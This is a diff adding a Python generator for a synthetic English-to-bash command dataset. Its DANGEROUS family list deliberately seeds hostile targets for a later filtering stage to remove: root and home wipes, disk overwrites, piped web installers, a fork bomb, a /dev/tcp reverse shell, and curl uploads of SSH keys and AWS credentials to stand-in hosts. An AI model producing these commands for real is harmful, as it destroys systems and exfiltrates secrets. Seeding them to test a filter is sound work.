@@ -1,0 +1,495 @@
+"""The embedded NL→bash dataset: seeded, offline, written by this project.
+
+`python -m shelltune.embedded` (or `shelltune gen-data`) writes `data/raw/shelltune_nl2bash.jsonl`,
+the committed default input of the split stage; a test regenerates it and checks it is byte-identical.
+
+Each family is a set of phrasings and one command template over shared slot pools. A slot value is
+either plain text or an (english, shell) pair, so "larger than 100 MB" can pair with `-size +100M`.
+Like scraped data, the output also holds a few percent of dangerous targets and some exact and
+near-duplicate rows; the split stage is expected to remove them.
+"""
+
+from __future__ import annotations
+
+import argparse
+import random
+import re
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from shelltune.fileio import write_jsonl
+
+DEFAULT_OUT = "data/raw/shelltune_nl2bash.jsonl"
+DEFAULT_SEED = 20261121
+PER_FAMILY = 40
+DANGEROUS_SHARE = 0.03
+DUPLICATE_SHARE = 0.04
+
+Slot = list[str] | list[tuple[str, str]] | Callable[[random.Random], str | tuple[str, str]]
+
+FILES = ["report.txt", "notes.md", "data.csv", "app.log", "config.yaml", "main.py", "index.html",
+         "server.js", "README.md", "todo.txt", "results.json", "error.log", "access.log", "setup.sh",
+         "style.css", "users.csv", "backup.sql", "photo.jpg", "invoice.pdf", "requirements.txt",
+         "package.json", "schema.sql", "deploy.sh", "summary.txt", "metrics.json", "output.txt",
+         "input.txt", "words.txt", "names.txt", "settings.ini"]
+TEXT_FILES = ["report.txt", "notes.md", "app.log", "todo.txt", "error.log", "access.log", "names.txt",
+              "summary.txt", "output.txt", "input.txt", "words.txt", "server.log", "debug.log",
+              "syslog.txt", "messages.txt", "urls.txt", "emails.txt", "hosts.txt"]
+CSV_FILES = ["data.csv", "users.csv", "sales.csv", "orders.csv", "inventory.csv", "scores.csv",
+             "employees.csv", "prices.csv"]
+JSON_FILES = ["config.json", "package.json", "results.json", "metrics.json", "response.json", "data.json"]
+SCRIPTS = ["setup.sh", "deploy.sh", "build.sh", "run.sh", "backup.sh", "install.sh", "start.sh", "test.sh"]
+LOGS = ["app.log", "error.log", "access.log", "/var/log/syslog", "/var/log/nginx/access.log",
+        "/var/log/nginx/error.log", "server.log", "debug.log", "/var/log/auth.log", "logs/app.log"]
+DIRS = ["src", "logs", "build", "docs", "data", "tmp", "scripts", "images", "backups", "config",
+        "tests", "dist", "/var/log", "/tmp", "/etc/nginx", "/opt/app", "~/projects", "~/Downloads",
+        "~/Documents", "/srv/www", "assets", "notes", "reports", "archive", "/var/www/html", "~/music"]
+LOCAL_DIRS = ["build", "dist", "tmp", "cache", "node_modules", "out", "target", "__pycache__",
+              ".pytest_cache", "coverage", "logs/old", "tmp/session"]
+NEW_DIRS = ["backup", "old", "archive", "2024", "drafts", "releases", "exports", "screenshots",
+            "raw", "processed", "fixtures", "templates"]
+EXTS = ["txt", "log", "py", "js", "csv", "json", "md", "sh", "conf", "jpg", "png", "html", "yaml",
+        "sql", "pdf", "go", "rs", "java", "ts", "xml"]
+TEMP_EXTS = ["tmp", "bak", "pyc", "log", "swp", "o", "orig", "cache"]
+PATTERNS = ["error", "TODO", "failed", "timeout", "WARNING", "localhost", "password", "import",
+            "404", "ERROR", "deprecated", "FIXME", "null", "Exception", "denied", "main", "debug",
+            "version", "user_id", "api_key"]
+WORDS = ["foo", "bar", "http", "https", "dev", "prod", "colour", "color", "old", "new", "v1",
+         "v2", "localhost", "staging", "true", "false"]
+USERS = ["alice", "bob", "deploy", "www-data", "postgres", "carol", "dave", "jenkins", "ubuntu", "admin"]
+GROUPS = ["docker", "sudo", "developers", "www-data", "staff", "admin", "audio", "wheel"]
+HOSTS = ["example.com", "192.168.1.10", "db.internal", "github.com", "10.0.0.5", "api.example.org",
+         "backup.local", "8.8.8.8", "web01", "172.16.0.20", "build.example.net", "server.lan"]
+DOMAINS = ["example.com", "github.com", "python.org", "wikipedia.org", "example.org", "debian.org",
+           "openai.com", "kernel.org"]
+PORTS = ["22", "80", "443", "8080", "3000", "5432", "6379", "8000", "9090", "3306", "5000", "8443"]
+PROCS = ["nginx", "python", "node", "java", "postgres", "redis-server", "firefox", "chrome", "sshd",
+         "dockerd", "gunicorn", "celery"]
+PKGS = ["curl", "git", "htop", "vim", "jq", "nginx", "tmux", "tree", "wget", "ripgrep", "zip",
+        "unzip", "make", "gcc", "ffmpeg", "sqlite3", "rsync", "ncdu"]
+PIP_PKGS = ["requests", "numpy", "pandas", "flask", "pytest", "black", "django", "scipy",
+            "matplotlib", "fastapi", "rich", "httpx"]
+NPM_PKGS = ["express", "react", "lodash", "typescript", "eslint", "axios", "prettier", "jest", "vite"]
+BRANCHES = ["main", "develop", "feature/login", "bugfix/header", "release/1.2", "hotfix/crash",
+            "feature/search", "docs/readme", "feature/api-v2", "experiment"]
+SERVICES = ["nginx", "docker", "ssh", "postgresql", "redis", "cron", "apache2", "mysql", "bluetooth",
+            "cups"]
+CONTAINERS = ["web", "db", "redis", "api", "worker", "proxy", "app", "cache"]
+IMAGES = ["nginx", "ubuntu:22.04", "postgres:16", "python:3.11", "redis:7", "alpine", "node:20",
+          "mysql:8"]
+ARCHIVES = ["backup", "project", "logs", "site", "release", "photos", "data", "docs", "src", "website"]
+URLS = ["https://example.com/file.tar.gz", "https://example.org/data.csv",
+        "https://downloads.example.net/tool.zip", "https://example.com/image.iso",
+        "https://raw.example.com/config.yaml", "https://files.example.org/report.pdf",
+        "https://example.com/index.html", "https://mirror.example.net/archive.tar.xz"]
+REPOS = ["https://github.com/torvalds/linux.git", "https://github.com/psf/requests.git",
+         "https://github.com/pallets/flask.git", "git@github.com:acme/website.git",
+         "https://gitlab.com/acme/api.git", "https://github.com/numpy/numpy.git"]
+MESSAGES = ["fix typo", "add tests", "update readme", "initial commit", "refactor parser",
+            "bump version", "fix login bug", "add logging", "remove dead code", "update dependencies"]
+ENV_VARS = ["PATH", "HOME", "EDITOR", "JAVA_HOME", "NODE_ENV", "PYTHONPATH", "LANG", "DEBUG"]
+ENV_VALUES = [("NODE_ENV", "production"), ("EDITOR", "vim"), ("DEBUG", "1"), ("LANG", "en_US.UTF-8"),
+              ("PYTHONPATH", "src"), ("JAVA_HOME", "/usr/lib/jvm/java-17"), ("PORT", "8080"),
+              ("LOG_LEVEL", "debug")]
+DEVICES = ["/dev/sda", "/dev/sdb", "/dev/sdb1", "/dev/nvme0n1", "/dev/sdc", "/dev/vda", "/dev/mmcblk0"]
+SIZES = [("100 MB", "100M"), ("1 GB", "1G"), ("10 MB", "10M"), ("500 MB", "500M"),
+         ("50 kilobytes", "50k"), ("2 gigabytes", "2G"), ("200 megabytes", "200M"), ("5 MB", "5M")]
+MODES = [("readable by everyone but writable only by the owner", "644"),
+         ("private to the owner", "600"), ("executable by everyone", "755"),
+         ("readable by the owner and group only", "640"), ("read-only for the owner", "400"),
+         ("fully accessible to the owner and group", "770")]
+DATE_FORMATS = [("year-month-day", "+%Y-%m-%d"), ("hours and minutes", "+%H:%M"),
+                ("ISO 8601 format", "--iso-8601=seconds"), ("day of the week", "+%A"),
+                ("seconds since the epoch", "+%s"), ("UTC", "-u"), ("month name and year", "+%B %Y"),
+                ("RFC 2822 format", "-R")]
+ACTIONS = [("restart", "restart"), ("stop", "stop"), ("start", "start"), ("check the status of", "status"),
+           ("enable at boot", "enable"), ("reload", "reload")]
+
+
+def number(low: int, high: int) -> Callable[[random.Random], str]:
+    return lambda rng: str(rng.randint(low, high))
+
+
+def choice_of(values: list[str]) -> Callable[[random.Random], str]:
+    return lambda rng: rng.choice(values)
+
+
+@dataclass(frozen=True)
+class Family:
+    name: str
+    phrasings: list[str]
+    command: str
+    slots: dict[str, Slot] = field(default_factory=dict)
+
+
+def fam(name: str, phrasings: list[str], command: str, **slots: Slot) -> Family:
+    return Family(name, phrasings, command, slots)
+
+
+FAMILIES: list[Family] = [
+    fam("ls", ["list the files in {d}", "show what is in {d}", "what files are in {d}",
+               "display the contents of the directory {d}", "list directory {d}"], "ls {d}", d=DIRS),
+    fam("ls_hidden", ["list all files in {d} including hidden ones", "show hidden files in {d} with details",
+                      "long listing of {d} with dotfiles", "list everything in {d}, hidden files too, in long format"],
+        "ls -la {d}", d=DIRS),
+    fam("ls_size", ["list files in {d} sorted by size", "show the biggest files in {d} first",
+                    "list {d} ordered by file size"], "ls -lS {d}", d=DIRS),
+    fam("ls_time", ["list files in {d} by modification time, newest first", "show recently changed files in {d}",
+                    "sort the listing of {d} by date"], "ls -lt {d}", d=DIRS),
+    fam("mkdir", ["create the directory {d}/{n}", "make a folder called {n} inside {d}",
+                  "create {d}/{n} including any missing parents", "make a new directory {n} under {d}"],
+        "mkdir -p {d}/{n}", d=DIRS, n=NEW_DIRS),
+    fam("rm_file", ["delete the file {f}", "remove {f}", "get rid of {f}", "erase the file named {f}"],
+        "rm {f}", f=FILES),
+    fam("rm_build", ["delete the {d} directory and everything in it", "remove the local folder {d} recursively",
+                     "clean up the {d} directory in the current project", "wipe out ./{d}"],
+        "rm -rf ./{d}", d=LOCAL_DIRS),
+    fam("cp", ["copy {f} into {d}", "make a copy of {f} in {d}", "copy the file {f} to the {d} directory"],
+        "cp {f} {d}/", f=FILES, d=DIRS),
+    fam("cp_dir", ["copy the directory {a} to {b}", "duplicate the folder {a} as {b}",
+                   "recursively copy {a} into {b}"], "cp -r {a} {b}", a=DIRS, b=NEW_DIRS),
+    fam("mv_rename", ["rename {a} to {b}", "change the name of {a} to {b}", "move {a} to {b}"],
+        "mv {a} {b}", a=FILES, b=FILES),
+    fam("mv_into", ["move {f} into {d}", "put {f} in the {d} folder", "relocate {f} to {d}"],
+        "mv {f} {d}/", f=FILES, d=DIRS),
+    fam("touch", ["create an empty file called {f}", "make a new empty file {f}",
+                  "update the timestamp of {f}", "touch {f}"], "touch {f}", f=FILES),
+    fam("ln", ["create a symbolic link named {b} pointing to {a}", "make a symlink {b} to {a}",
+               "link {a} as {b} with a soft link"], "ln -s {a} {b}", a=FILES, b=["latest", "current", "link",
+                                                                                   "shortcut", "active"]),
+    fam("cat", ["show the contents of {f}", "print {f} to the terminal", "display the file {f}",
+                "output everything in {f}"], "cat {f}", f=FILES),
+    fam("head", ["show the first {n} lines of {f}", "print the top {n} lines of {f}",
+                 "display the beginning of {f}, {n} lines"], "head -n {n} {f}", n=number(2, 60), f=TEXT_FILES),
+    fam("tail", ["show the last {n} lines of {f}", "print the final {n} lines of {f}",
+                 "display the end of {f}, {n} lines"], "tail -n {n} {f}", n=number(2, 60), f=TEXT_FILES),
+    fam("tail_follow", ["follow {f} as it grows", "watch new lines appended to {f}",
+                        "stream the log {f} live"], "tail -f {f}", f=LOGS),
+    fam("wc_lines", ["count the lines in {f}", "how many lines does {f} have", "number of lines in {f}"],
+        "wc -l {f}", f=FILES),
+    fam("wc_words", ["count the words in {f}", "how many words are in {f}", "word count of {f}"],
+        "wc -w {f}", f=TEXT_FILES),
+    fam("sort", ["sort the lines of {f} alphabetically", "print {f} sorted", "sort {f}"],
+        "sort {f}", f=TEXT_FILES),
+    fam("sort_numeric", ["sort {f} numerically in descending order", "sort the numbers in {f} from largest to smallest",
+                         "reverse numeric sort of {f}"], "sort -nr {f}", f=TEXT_FILES),
+    fam("sort_unique", ["sort {f} and remove duplicate lines", "print the unique lines of {f} in sorted order",
+                        "deduplicate the lines of {f}"], "sort -u {f}", f=TEXT_FILES),
+    fam("uniq_count", ["count how often each line appears in {f}", "show the most frequent lines in {f}",
+                       "frequency of each distinct line in {f}, most common first"],
+        "sort {f} | uniq -c | sort -nr", f=TEXT_FILES),
+    fam("cut", ["print column {k} of the comma-separated file {f}", "extract field {k} from {f}",
+                "show only the {k} column of {f} using commas as separators"],
+        "cut -d',' -f{k} {f}", k=number(1, 9), f=CSV_FILES),
+    fam("awk_column", ["print the {k} word of every line in {f}", "show whitespace-separated column {k} of {f}",
+                       "use awk to print field {k} of {f}"], "awk '{{print ${k}}}' {f}",
+        k=number(1, 9), f=TEXT_FILES),
+    fam("sed_replace", ["replace every {a} with {b} in {f}", "substitute {a} by {b} in place in {f}",
+                        "change all occurrences of {a} to {b} inside {f}"],
+        "sed -i 's/{a}/{b}/g' {f}", a=WORDS, b=WORDS, f=FILES),
+    fam("sed_delete", ["delete every line containing {p} from {f}", "remove lines matching {p} in {f} in place",
+                       "strip all lines with {p} out of {f}"], "sed -i '/{p}/d' {f}", p=PATTERNS, f=TEXT_FILES),
+    fam("tr_upper", ["convert {f} to upper case", "print {f} in capital letters", "uppercase all text in {f}"],
+        "tr '[:lower:]' '[:upper:]' < {f}", f=TEXT_FILES),
+    fam("grep", ["search for {p} in {f}", "find lines containing {p} in {f}", "show the lines of {f} that mention {p}",
+                 "grep {f} for {p}"], "grep '{p}' {f}", p=PATTERNS, f=FILES),
+    fam("grep_recursive", ["search every file under {d} for {p}", "find {p} anywhere in {d} with line numbers",
+                           "recursively grep {d} for {p}"], "grep -rn '{p}' {d}", p=PATTERNS, d=DIRS),
+    fam("grep_ignore_case", ["search {f} for {p} ignoring case", "case-insensitive search for {p} in {f}",
+                             "find {p} in {f} regardless of capitalization"], "grep -i '{p}' {f}",
+        p=PATTERNS, f=FILES),
+    fam("grep_count", ["count the lines in {f} that contain {p}", "how many lines of {f} mention {p}",
+                       "number of matches of {p} in {f}"], "grep -c '{p}' {f}", p=PATTERNS, f=FILES),
+    fam("grep_invert", ["show the lines of {f} that do not contain {p}", "print {f} without the lines matching {p}",
+                        "filter out {p} from {f}"], "grep -v '{p}' {f}", p=PATTERNS, f=TEXT_FILES),
+    fam("find_name", ["find all .{e} files under {d}", "list every file ending in .{e} in {d} recursively",
+                      "locate the .{e} files inside {d}"], "find {d} -name '*.{e}'", e=EXTS, d=DIRS),
+    fam("find_size", ["find files larger than {s} in {d}", "list files in {d} bigger than {s}",
+                      "which files under {d} exceed {s}"], "find {d} -type f -size +{s}", s=SIZES, d=DIRS),
+    fam("find_recent", ["find files in {d} modified in the last {n} days", "list files under {d} changed within {n} days",
+                        "show files in {d} edited during the past {n} days"], "find {d} -type f -mtime -{n}",
+        n=number(1, 30), d=DIRS),
+    fam("find_old", ["find files in {d} older than {n} days", "list files under {d} not modified for {n} days",
+                     "which files in {d} were last changed more than {n} days ago"], "find {d} -type f -mtime +{n}",
+        n=number(7, 365), d=DIRS),
+    fam("find_empty", ["find empty files in {d}", "list all zero-length files under {d}",
+                       "which files in {d} are empty"], "find {d} -type f -empty", d=DIRS),
+    fam("find_dirs", ["list all subdirectories of {d}", "find every directory under {d}",
+                      "show the folder tree of {d} as paths"], "find {d} -type d", d=DIRS),
+    fam("find_delete", ["delete all .{e} files in {d}", "remove every *.{e} file under ./{d}",
+                        "clean up the .{e} files inside {d}"], "find ./{d} -name '*.{e}' -delete",
+        e=TEMP_EXTS, d=LOCAL_DIRS + ["src", "tests", "docs"]),
+    fam("find_grep", ["find .{e} files in {d} that contain {p}", "list the .{e} files under {d} mentioning {p}",
+                      "which .{e} files in {d} include the text {p}"],
+        "find {d} -name '*.{e}' -exec grep -l '{p}' {{}} +", e=EXTS, d=DIRS, p=PATTERNS),
+    fam("xargs_wc", ["count the lines of all .{e} files in {d}", "total line count of the .{e} files under {d}",
+                     "how many lines of .{e} code are in {d}"], "find {d} -name '*.{e}' | xargs wc -l",
+        e=EXTS, d=DIRS),
+    fam("du", ["show how much space {d} uses", "disk usage of {d} in human readable form", "how big is {d}"],
+        "du -sh {d}", d=DIRS),
+    fam("du_top", ["show the {n} largest items in {d}", "what are the {n} biggest directories under {d}",
+                   "list the top {n} space users in {d}"], "du -h {d} | sort -rh | head -n {n}",
+        n=number(3, 20), d=DIRS),
+    fam("df", ["show free disk space on {m}", "how full is the filesystem at {m}", "disk space left on {m}"],
+        "df -h {m}", m=["/", "/home", "/var", "/tmp", "/boot", "/mnt/data", "/srv"]),
+    fam("tar_create", ["create a gzipped tarball {a}.tar.gz of {d}", "archive {d} into {a}.tar.gz",
+                       "compress the directory {d} as {a}.tar.gz"], "tar -czf {a}.tar.gz {d}", a=ARCHIVES, d=DIRS),
+    fam("tar_extract", ["extract {a}.tar.gz into {d}", "unpack the archive {a}.tar.gz in {d}",
+                        "decompress {a}.tar.gz to the {d} directory"], "tar -xzf {a}.tar.gz -C {d}",
+        a=ARCHIVES, d=DIRS),
+    fam("tar_list", ["list the contents of {a}.tar.gz", "show what files are inside {a}.tar.gz",
+                     "what is in the tarball {a}.tar.gz"], "tar -tzf {a}.tar.gz", a=ARCHIVES),
+    fam("zip", ["zip the folder {d} into {a}.zip", "create a zip archive {a}.zip from {d}",
+                "compress {d} as {a}.zip"], "zip -r {a}.zip {d}", a=ARCHIVES, d=DIRS),
+    fam("unzip", ["unzip {a}.zip into {d}", "extract {a}.zip to {d}", "unpack the zip file {a}.zip in {d}"],
+        "unzip {a}.zip -d {d}", a=ARCHIVES, d=DIRS),
+    fam("gzip", ["compress {f} with gzip", "gzip the file {f}", "make {f} a .gz file"], "gzip {f}", f=FILES),
+    fam("gunzip", ["decompress {f}.gz", "gunzip {f}.gz", "uncompress the gzip file {f}.gz"],
+        "gunzip {f}.gz", f=FILES),
+    fam("chmod_exec", ["make {f} executable", "give {f} execute permission", "allow {f} to be run as a program"],
+        "chmod +x {f}", f=SCRIPTS),
+    fam("chmod_mode", ["make {f} {m}", "set the permissions of {f} so it is {m}", "change the mode of {f} to be {m}"],
+        "chmod {m} {f}", m=MODES, f=FILES),
+    fam("chown", ["change the owner of {f} to {u}", "give ownership of {f} to user {u}", "make {u} own {f}"],
+        "chown {u} {f}", u=USERS, f=FILES),
+    fam("chown_group", ["change the owner of ./{d} to {u} and group {g}, recursively",
+                        "make {u}:{g} own everything in ./{d}", "recursively set owner {u} and group {g} on ./{d}"],
+        "chown -R {u}:{g} ./{d}", u=USERS, g=GROUPS, d=LOCAL_DIRS + NEW_DIRS),
+    fam("ps_grep", ["show running {p} processes", "is {p} running", "list processes named {p}",
+                    "find the {p} process"], "ps aux | grep {p}", p=PROCS),
+    fam("kill", ["kill process {n}", "terminate the process with id {n}", "stop pid {n}"],
+        "kill {n}", n=number(1000, 65000)),
+    fam("kill_force", ["force kill process {n}", "kill -9 the process {n}", "send SIGKILL to pid {n}"],
+        "kill -9 {n}", n=number(1000, 65000)),
+    fam("pkill", ["kill all {p} processes", "stop every process named {p}", "terminate {p} by name"],
+        "pkill {p}", p=PROCS),
+    fam("pgrep", ["get the process ids of {p}", "which pids belong to {p}", "print the pid of {p}"],
+        "pgrep {p}", p=PROCS),
+    fam("lsof_port", ["which process is using port {p}", "what is listening on port {p}",
+                      "find the program bound to port {p}"], "lsof -i :{p}", p=PORTS),
+    fam("ss_port", ["show listening TCP sockets on port {p}", "check if anything listens on port {p}",
+                    "list listening sockets and filter for port {p}"], "ss -tlnp | grep ':{p}'", p=PORTS),
+    fam("ping", ["ping {h} {n} times", "send {n} pings to {h}", "check if {h} is reachable with {n} packets"],
+        "ping -c {n} {h}", n=number(1, 10), h=HOSTS),
+    fam("curl_download", ["download {u} and save it as {f}", "fetch {u} into the file {f}",
+                          "save {u} to {f} with curl"], "curl -L -o {f} {u}", u=URLS, f=FILES),
+    fam("curl_headers", ["show the HTTP headers of https://{h}", "fetch only the response headers from https://{h}",
+                         "check the status line of https://{h}"], "curl -I https://{h}", h=DOMAINS),
+    fam("wget", ["download {u} with wget", "wget the file at {u}", "grab {u} into the current directory"],
+        "wget {u}", u=URLS),
+    fam("ssh", ["connect to {h} as {u} over ssh", "ssh into {h} with the user {u}", "log in to {h} as {u}"],
+        "ssh {u}@{h}", u=USERS, h=HOSTS),
+    fam("ssh_port", ["ssh to {h} as {u} on port {p}", "connect over ssh to {u}@{h} using port {p}",
+                     "open an ssh session to {h} port {p} as {u}"], "ssh -p {p} {u}@{h}",
+        u=USERS, h=HOSTS, p=["2222", "22", "2200", "8022", "10022"]),
+    fam("scp", ["copy {f} to {h} in /tmp as {u}", "upload {f} to {u}@{h}:/tmp", "send {f} to the /tmp folder on {h} as {u}"],
+        "scp {f} {u}@{h}:/tmp/", f=FILES, u=USERS, h=HOSTS),
+    fam("rsync", ["sync {d} to {h} under /backup as {u}", "mirror {d} onto {u}@{h}:/backup",
+                  "rsync the folder {d} to /backup on {h}"], "rsync -avz {d}/ {u}@{h}:/backup/",
+        d=DIRS, u=USERS, h=HOSTS),
+    fam("dig", ["look up the IP address of {h}", "resolve {h} with DNS", "what IP does {h} point to"],
+        "dig +short {h}", h=DOMAINS),
+    fam("git_log", ["show the last {n} commits in one line each", "git history, {n} most recent commits, compact",
+                    "list the {n} latest commits briefly"], "git log --oneline -n {n}", n=number(2, 50)),
+    fam("git_branch", ["create and switch to a new branch {b}", "start a new git branch called {b}",
+                       "check out a new branch named {b}"], "git checkout -b {b}", b=BRANCHES),
+    fam("git_commit", ["commit all staged changes with the message '{m}'", "git commit with message {m}",
+                       "record the staged changes as '{m}'"], "git commit -m '{m}'", m=MESSAGES),
+    fam("git_clone", ["clone the repository {r}", "git clone {r}", "download the git repo {r}"],
+        "git clone {r}", r=REPOS),
+    fam("git_diff", ["show uncommitted changes to {f}", "what changed in {f} since the last commit",
+                     "diff {f} against HEAD"], "git diff {f}", f=FILES),
+    fam("git_push", ["push the branch {b} to origin", "upload {b} to the remote", "git push {b}"],
+        "git push origin {b}", b=BRANCHES),
+    fam("apt_install", ["install {p} with apt", "install the package {p}", "apt-get install {p} without prompting"],
+        "sudo apt-get install -y {p}", p=PKGS),
+    fam("apt_remove", ["uninstall {p}", "remove the package {p} with apt", "apt remove {p}"],
+        "sudo apt-get remove {p}", p=PKGS),
+    fam("pip_install", ["install the Python package {p}", "pip install {p}", "add {p} to my Python environment"],
+        "pip install {p}", p=PIP_PKGS),
+    fam("pip_install_version", ["install {p} version {v}", "pip install {p} pinned to {v}",
+                                "get exactly version {v} of {p}"], "pip install {p}=={v}", p=PIP_PKGS,
+        v=["1.0.0", "2.1.3", "0.9.2", "3.2.1", "1.26.4", "2.31.0"]),
+    fam("npm_install", ["install the npm package {p}", "add {p} to the node project", "npm install {p}"],
+        "npm install {p}", p=NPM_PKGS),
+    fam("npm_dev", ["install {p} as a dev dependency", "add {p} to devDependencies", "npm install {p} for development only"],
+        "npm install --save-dev {p}", p=NPM_PKGS),
+    fam("useradd", ["create a new user {u} with a home directory", "add the user account {u}", "make a user called {u}"],
+        "sudo useradd -m {u}", u=USERS),
+    fam("usermod_group", ["add {u} to the {g} group", "put user {u} in group {g}", "give {u} membership of {g}"],
+        "sudo usermod -aG {g} {u}", u=USERS, g=GROUPS),
+    fam("date_format", ["print today's date in {f}", "show the current date as {f}", "what is the time now in {f}"],
+        "date {f}", f=DATE_FORMATS),
+    fam("date_epoch", ["convert the timestamp {n} to a date", "what date is epoch {n}", "turn unix time {n} into a readable date"],
+        "date -d @{n}", n=number(1_000_000_000, 1_900_000_000)),
+    fam("systemctl", ["{a} the {s} service", "use systemctl to {a} {s}", "{a} {s}"],
+        "sudo systemctl {a} {s}", a=ACTIONS, s=SERVICES),
+    fam("journalctl", ["show the logs of the {s} service from the last {n} hours", "journal entries for {s} in the past {n} hours",
+                       "what did {s} log during the last {n} hours"], "journalctl -u {s} --since '{n} hours ago'",
+        s=SERVICES, n=number(1, 48)),
+    fam("checksum", ["compute the SHA-256 checksum of {f}", "sha256 hash of {f}", "verify {f} by printing its sha256"],
+        "sha256sum {f}", f=FILES + [a + ".tar.gz" for a in ARCHIVES]),
+    fam("md5", ["compute the MD5 checksum of {f}", "md5 hash of {f}", "print the md5sum of {f}"],
+        "md5sum {f}", f=FILES + [a + ".zip" for a in ARCHIVES]),
+    fam("diff", ["compare {a} and {b}", "show the differences between {a} and {b}", "unified diff of {a} against {b}"],
+        "diff -u {a} {b}", a=FILES, b=FILES),
+    fam("base64_encode", ["base64 encode {f}", "print {f} as base64", "convert {f} to base64"],
+        "base64 {f}", f=FILES),
+    fam("split_lines", ["split {f} into files of {n} lines each", "break {f} into chunks of {n} lines",
+                        "cut {f} into pieces with {n} lines per file"], "split -l {n} {f} part_",
+        f=TEXT_FILES + CSV_FILES, n=number(100, 5000)),
+    fam("jq", ["print the {k} field of {f}", "extract .{k} from the JSON file {f}", "use jq to read {k} from {f}"],
+        "jq '.{k}' {f}", k=["name", "version", "data", "items", "status", "id", "config", "results"], f=JSON_FILES),
+    fam("docker_logs", ["follow the logs of the {c} container", "stream docker logs for {c}", "tail the {c} container's output"],
+        "docker logs -f {c}", c=CONTAINERS),
+    fam("docker_exec", ["open a shell in the {c} container", "get a bash prompt inside {c}", "exec into the docker container {c}"],
+        "docker exec -it {c} bash", c=CONTAINERS),
+    fam("docker_run", ["run {i} in the background as {c} with port {p} published",
+                       "start a detached {i} container named {c} on port {p}",
+                       "launch {i} as {c}, mapping port {p}"], "docker run -d --name {c} -p {p}:{p} {i}",
+        i=IMAGES, c=CONTAINERS, p=PORTS),
+    fam("echo_append", ["append the line '{w}' to {f}", "add '{w}' at the end of {f}", "write '{w}' as a new last line of {f}"],
+        "echo '{w}' >> {f}", w=WORDS + PATTERNS, f=TEXT_FILES),
+    fam("export", ["set the environment variable {v}", "export {v} for this shell", "define {v} in the environment"],
+        "export {v}", v=[(f"{k} to {val}", f"{k}={val}") for k, val in ENV_VALUES]),
+    fam("env_grep", ["show the value of {v}", "print the environment variable {v}", "what is {v} set to"],
+        "echo ${v}", v=ENV_VARS),
+    fam("which", ["where is {p} installed", "find the path of the {p} executable", "which {p} binary is used"],
+        "which {p}", p=PKGS),
+    fam("sleep", ["wait {n} seconds", "pause for {n} seconds", "sleep {n} seconds"], "sleep {n}", n=number(1, 120)),
+    fam("history_grep", ["search my shell history for {p}", "find earlier commands that used {p}",
+                         "which past commands mention {p}"], "history | grep {p}", p=PKGS + ["ssh", "docker", "git"]),
+    fam("ssh_keygen", ["generate an ed25519 ssh key with the comment {u}@{h}", "create a new ssh key pair labeled {u}@{h}",
+                       "make an ed25519 key for {u}@{h}"], "ssh-keygen -t ed25519 -C '{u}@{h}'", u=USERS, h=HOSTS),
+    fam("stat", ["show detailed metadata of {f}", "stat the file {f}", "print size, permissions and times of {f}"],
+        "stat {f}", f=FILES),
+    fam("file_type", ["what type of file is {f}", "detect the file format of {f}", "identify the kind of file {f}"],
+        "file {f}", f=FILES),
+    fam("watch", ["run '{c}' every {n} seconds", "repeat {c} each {n} seconds and show the output",
+                  "watch the output of {c}, refreshing every {n} seconds"], "watch -n {n} '{c}'",
+        n=number(1, 30), c=["df -h", "free -m", "uptime", "ls -l", "docker ps", "nvidia-smi"]),
+    fam("sysinfo", ["{q}"], "{q}", q=[("show memory usage in human readable units", "free -h"),
+                                      ("how long has this machine been up", "uptime"),
+                                      ("print kernel and system information", "uname -a"),
+                                      ("how many CPU cores do I have", "nproc"),
+                                      ("which user am I logged in as", "whoami"),
+                                      ("show the hostname", "hostname"),
+                                      ("show my user and group ids", "id"),
+                                      ("list block devices", "lsblk"),
+                                      ("list my cron jobs", "crontab -l"),
+                                      ("list running docker containers", "docker ps"),
+                                      ("show git status", "git status"),
+                                      ("print the working directory", "pwd")]),
+]
+
+DANGEROUS: list[Family] = [
+    fam("danger_rm_root", ["delete everything on the system", "remove all files starting from the root directory",
+                           "free up space by deleting /"], "{c}",
+        c=["rm -rf /", "sudo rm -rf / --no-preserve-root", "rm -rf /*", "sudo rm -rf /*"]),
+    fam("danger_rm_home", ["delete my whole home directory", "wipe everything in my home folder"], "{c}",
+        c=["rm -rf ~", "rm -rf $HOME", "rm -rf ~/*"]),
+    fam("danger_dd", ["wipe the disk {d}", "overwrite {d} with zeros", "securely erase the drive {d}"],
+        "dd if=/dev/zero of={d} bs=1M", d=DEVICES),
+    fam("danger_mkfs", ["format {d} as ext4", "create a new filesystem on {d}"], "mkfs.ext4 {d}", d=DEVICES),
+    fam("danger_curl_sh", ["install {p} with its official one-line installer", "run the {p} setup script from the web"],
+        "curl -fsSL https://get.{p}.sh | sh", p=["docker", "rustup", "nvm", "tool", "k3s", "deno"]),
+    fam("danger_wget_bash", ["download and run the script at {u}", "execute the installer hosted at {u}"],
+        "wget -qO- {u} | bash", u=["https://example.com/install.sh", "http://203.0.113.7/x.sh",
+                                   "https://setup.example.org/run.sh"]),
+    fam("danger_chmod_root", ["make every file on the system writable by everyone", "give everyone full access to {d}"],
+        "chmod -R 777 {d}", d=["/", "/etc", "/usr", "/var"]),
+    fam("danger_fork", ["run a fork bomb", "start a shell function that spawns itself forever"], ":(){{ :|:& }};:"),
+    fam("danger_firewall", ["turn off the firewall", "disable all firewall protection"], "{c}",
+        c=["sudo ufw disable", "sudo iptables -F", "sudo systemctl stop firewalld"]),
+    fam("danger_history", ["erase my shell history", "clear all traces of my commands"], "{c}",
+        c=["history -c", "rm ~/.bash_history", "cat /dev/null > ~/.bash_history"]),
+    fam("danger_reverse", ["open a reverse shell to {h} on port {p}", "give {h} a remote shell on port {p}"],
+        "bash -i >& /dev/tcp/{h}/{p} 0>&1", h=["10.0.0.9", "203.0.113.5", "198.51.100.2"], p=["4444", "9001", "1337"]),
+    fam("danger_exfil", ["upload my ssh private key to {h}", "send my private key to {h}"],
+        "curl -F 'file=@{k}' https://{h}/upload", k=["~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials"],
+        h=["paste.example.com", "203.0.113.9", "files.example.net"]),
+    fam("danger_passwd", ["empty the password file", "clear /etc/passwd"], "> /etc/passwd"),
+]
+
+PREFIXES = ["", "", "", "", "please ", "can you ", "how do I ", "I need to ", "help me ", "quickly "]
+QUESTION_WORDS = {"how", "what", "which", "where", "who", "is", "are"}
+
+
+def sample_slots(family: Family, rng: random.Random) -> tuple[dict[str, str], dict[str, str]]:
+    """One value per slot: (english forms, shell forms)."""
+    english, shell = {}, {}
+    for name, pool in family.slots.items():
